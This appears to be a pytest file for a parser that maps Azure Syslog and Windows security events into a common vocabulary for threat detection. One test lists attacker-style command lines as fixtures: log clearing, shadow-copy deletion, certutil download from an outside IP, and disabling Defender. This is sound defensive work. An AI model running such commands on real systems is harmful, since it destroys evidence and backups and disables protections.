"""Records of Syslog, SecurityEvent, WindowsEvent and Event: the same words as on AWS, and what is wrong with a record."""

from __future__ import annotations

import io
import json
import lzma
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from infra_tests.shared_model.test_azure_activity import JSON, count
from shared_model.encoders.audit import encode_system_events
from shared_model.events import Entity, EntityKind, Rejected, SystemEvent
from shared_model.log_templates import template_of
from shared_model.parsers.azure_system_logs import parse_azure_system_logs
from shared_model.parsers.system_logs import read_system_logs
from shared_model.system_log_rules import read_message
from shared_model.vocabulary import OBJECTS, OUTCOMES, SERVICES, VERBS, service_of_process
from shared_model.vocabulary_windows import EVENTS as WINDOWS_EVENTS
from shared_model.windows_log_rules import read_windows_event
from training.azure_records import as_row
from training.data_root import data_root

EVENTS = Path(__file__).parents[1] / "events" / "azure"
NOW = 1_772_500_000_000
SUBSCRIPTION = "11111111-2222-3333-4444-555555555555"
MACHINE = f"/subscriptions/{SUBSCRIPTION}/resourcegroups/shop/providers/microsoft.compute/virtualmachines/web-1"


def records() -> list[dict[str, Any]]:
    loaded: list[dict[str, Any]] = json.loads((EVENTS / "system_logs.json").read_text())["records"]
    return loaded


def only(record: object) -> SystemEvent | Rejected:
    (result,) = parse_azure_system_logs(record, source="test", now_ms=NOW)
    return result


def event(record: object) -> SystemEvent:
    result = only(record)
    assert isinstance(result, SystemEvent), result
    return result


def windows(number: int, **data: object) -> SystemEvent:
    return event(
        {"TimeGenerated": "2026-03-02T12:00:00Z", "Computer": "dc-1", "EventID": number, "Type": "SecurityEvent", **data}
    )


def test_every_record_of_every_table_is_read():
    results = list(parse_azure_system_logs({"records": records()}, source="test", now_ms=NOW))
    assert len(results) == len(records()) == 17
    assert not [result for result in results if isinstance(result, Rejected)]


def test_a_message_of_linux_is_read_by_the_rules_of_the_other_cloud():
    result = event(records()[0])
    meaning = read_message("sshd", records()[0]["SyslogMessage"])
    assert (result.verb, result.object, result.outcome, result.user, result.source_address) == meaning
    assert result.template == template_of(records()[0]["SyslogMessage"])
    assert (result.process, result.severity, result.time_ms) == ("sshd", 5, 1772452801123)
    assert result.host == Entity(EntityKind.INSTANCE, MACHINE, SUBSCRIPTION)
    assert (result.provider, result.account) == ("azure", SUBSCRIPTION)


def test_a_command_through_sudo_is_told_by_what_it_does():
    result = event(records()[2])
    assert (result.verb, result.object, result.user) == ("delete", "log", "deploy")


def test_a_machine_that_is_none_of_azures_goes_by_its_name():
    result = event(records()[3])
    assert result.host == Entity(EntityKind.HOST, "onprem-7", "")
    assert (result.process, result.verb, result.object) == ("useradd", "create", "user")  # the program stands in the text


def test_the_names_of_the_diagnostic_extension_read_alike():
    result = event(records()[16])
    assert (result.process, result.severity, result.source_address) == ("sshd", 4, "203.0.113.5")
    assert result.host.id == MACHINE


def test_a_failed_logon_tells_whether_the_account_exists():
    unknown = event(records()[4])
    assert (unknown.process, unknown.verb, unknown.object, unknown.outcome) == (
        "Security-4625",
        "authenticate",
        "user",
        "failure",
    )
    assert (unknown.user, unknown.source_address) == ("administrator", "198.51.100.9")
    assert "unknown user" in unknown.template
    assert "unknown user" not in windows(4625, SubStatus="0xc000006a").template


@pytest.mark.parametrize(
    ("kind", "verb"), [(2, "authenticate"), (3, "authenticate"), (10, "authenticate"), (5, "connect"), (4, "connect")]
)
def test_a_service_that_starts_is_no_sign_in(kind: int, verb: str):
    assert windows(4624, LogonType=kind, TargetUserName="x").verb == verb


@pytest.mark.parametrize(
    ("number", "words"),
    [
        (4720, ("create", "user", "success")),
        (4728, ("add", "group", "success")),
        (4732, ("add", "group", "success")),
        (4672, ("assume", "user", "success")),
        (4697, ("create", "job", "success")),
        (1102, ("delete", "log", "success")),
        (4800, ("", "", "")),
    ],
)
def test_what_an_event_means(number: int, words: tuple[str, str, str]):
    result = windows(number, SubjectUserName="alice")
    assert (result.verb, result.object, result.outcome) == words
    assert result.process == f"Security-{number}"


def test_a_new_service_is_read_from_the_log_system():
    result = event(records()[14])
    assert (result.process, result.verb, result.object) == ("System-7045", "create", "job")


def test_data_written_as_xml_is_read_and_its_entities_are_resolved():
    result = event(records()[15])
    assert (result.user, result.source_address, result.outcome) == ("bob & co", "2001:db8::9", "failure")


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("wevtutil.exe cl Security", ("delete", "log")),
        ("net user eve P4ss /add", ("create", "user")),
        ("net localgroup Administrators eve /add", ("add", "group")),
        ("vssadmin delete shadows /all /quiet", ("delete", "snapshot")),
        ("certutil -urlcache -f http://203.0.113.9/x x", ("import", "code")),
        ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", ("disable", "detector")),
        ("notepad.exe", ("invoke", "command")),
    ],
)
def test_a_command_line_is_told_by_what_it_does(command: str, words: tuple[str, str]):
    result = windows(4688, CommandLine=command, SubjectUserName="eve")
    assert (result.verb, result.object) == words


def test_kerberos_failures_and_auditing_that_ends_are_told_apart():
    assert windows(4768, Status="0x0").outcome == "success"
    assert windows(4768, Status="0x18").outcome == "failure"
    assert windows(4719, AuditPolicyChanges="%%8448, %%8450").verb == "disable"
    assert windows(4719, AuditPolicyChanges="%%8449").verb == "update"


def test_an_event_of_another_log_with_the_same_number_means_nothing():
    row = {"EventID": 4625, "EventLog": "Application", "Source": "EventSystem", "Computer": "pc"}
    result = event(row)
    assert (result.process, result.verb) == ("Application-4625", "")
    assert result.time_ms == NOW


def test_every_word_of_the_table_is_a_level_and_its_events_have_their_service():
    for name, rule in WINDOWS_EVENTS.items():
        assert rule.service in SERVICES
        assert rule.verb in VERBS
        assert rule.object in OBJECTS
        assert rule.outcome in OUTCOMES
        assert service_of_process(name) == rule.service
    assert service_of_process("Security-4800") == "daemon"


def test_a_record_that_is_exported_again_is_the_same_event():
    assert event(records()[0]).event_id == event(records()[0]).event_id
    assert event(records()[0]).event_id != event(records()[0] | {"ProcessID": "1"}).event_id


@pytest.mark.parametrize(
    ("record", "field"),
    [
        ({"Type": "Perf", "CounterName": "x"}, "Type"),
        ({"EventID": "many"}, "EventID"),
        ({"SyslogMessage": "x", "TimeGenerated": "now"}, "timegenerated"),
        ({"SyslogMessage": "x", "Computer": "h" * 256}, "Computer"),
        ("text", ""),
    ],
)
def test_what_cannot_be_used_is_rejected_and_named(record: object, field: str):
    wrong, good = parse_azure_system_logs([record, records()[0]], source="hub", now_ms=NOW)
    assert isinstance(wrong, Rejected)
    assert (wrong.source, wrong.record, wrong.field) == ("hub", 1, field)
    assert isinstance(good, SystemEvent)


@given(JSON)
def test_any_json_gives_events_and_rejects_that_add_up(document: object):
    assert len(list(parse_azure_system_logs(document, source="test", now_ms=NOW))) == count(document)


@given(
    st.integers(0, 16),
    st.sampled_from(["EventData", "properties", "Level", "Activity", "ProcessName", "_ResourceId", "IpAddress"]),
    JSON,
)
def test_any_value_in_an_optional_field_never_raises(place: int, field: str, value: object):
    assert len(list(parse_azure_system_logs(records()[place] | {field: value}, source="test", now_ms=NOW))) == 1


@given(
    st.sampled_from(sorted(WINDOWS_EVENTS)),
    st.dictionaries(st.sampled_from(["logontype", "status", "commandline", "ipaddress"]), st.text(max_size=20)),
)
def test_any_data_has_a_meaning_in_the_vocabulary(name: str, data: dict[str, str]):
    meaning, template = read_windows_event(name, data)
    assert meaning.verb in VERBS
    assert meaning.object in OBJECTS
    assert template.startswith(name)


@pytest.mark.skipif(data_root() is None, reason="recorded data is absent: set BREAKWATER_DATA to its folder")
def test_a_recorded_log_encodes_to_the_same_bytes_on_both_clouds():
    root = data_root()
    assert root is not None
    with lzma.open(root / "system_logs" / "OpenSSH_2k.log.xz") as stream:
        lines = list(read_system_logs(io.BytesIO(stream.read()), source="ssh", now_ms=NOW))
    on_aws = [line for line in lines if isinstance(line, SystemEvent)]
    on_azure = list(parse_azure_system_logs({"records": [as_row(line) for line in on_aws]}, source="ssh", now_ms=NOW))
    events = [result for result in on_azure if isinstance(result, SystemEvent)]
    assert len(events) == len(lines) == 2000
    assert encode_system_events(events).tobytes() == encode_system_events(on_aws).tobytes()
